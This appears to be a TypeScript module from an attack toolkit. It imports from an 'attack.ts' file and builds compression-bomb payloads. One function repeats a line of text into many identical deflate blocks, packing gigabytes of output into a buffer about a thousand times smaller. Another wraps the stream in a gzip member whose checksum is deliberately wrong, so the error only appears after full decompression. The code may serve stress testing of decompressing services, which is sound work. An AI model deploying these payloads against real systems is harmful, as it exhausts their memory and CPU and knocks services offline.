import { constants, deflateRawSync } from 'node:zlib';
import { MIB } from './attack.ts';

const PIECE_BYTES = 32 * MIB;
/** Last block of a deflate stream, with nothing in it. */
const LAST_BLOCK = Buffer.of(0x03, 0x00);
const GZIP_HEAD = Buffer.from('1f8b0800000000000003', 'hex');

/** Blocks that end on a whole byte and refer to nothing before them: they may follow one another. */
const blocksOf = (content: Uint8Array): Buffer =>
  deflateRawSync(content, { level: 9, finishFlush: constants.Z_FULL_FLUSH });

interface Around {
  readonly before?: string;
  readonly after?: string;
}

/** The line so often that it fills `bytes`, packed about a thousand times smaller, made in the time of 32 MiB. */
export const packedLine = (line: string, bytes: number, { before = '', after = '' }: Around = {}): Buffer => {
  const times = Math.ceil(Math.min(PIECE_BYTES, bytes) / line.length);
  const blocks = blocksOf(Buffer.from(line.repeat(times)));
  const count = Math.max(1, Math.round(bytes / (line.length * times)));
  const repeated = Array.from({ length: count }, () => blocks);
  return Buffer.concat([
    blocksOf(Buffer.from(before)),
    ...repeated,
    blocksOf(Buffer.from(after)),
    LAST_BLOCK,
  ]);
};

/** A gzip member around a deflate stream; its checksum is wrong, which only shows at the end. */
export const gzipAround = (deflated: Uint8Array, size: number): Buffer => {
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(0xbad0_c0de, 0);
  trailer.writeUInt32LE(size % 2 ** 32, 4);
  return Buffer.concat([GZIP_HEAD, deflated, trailer]);
};
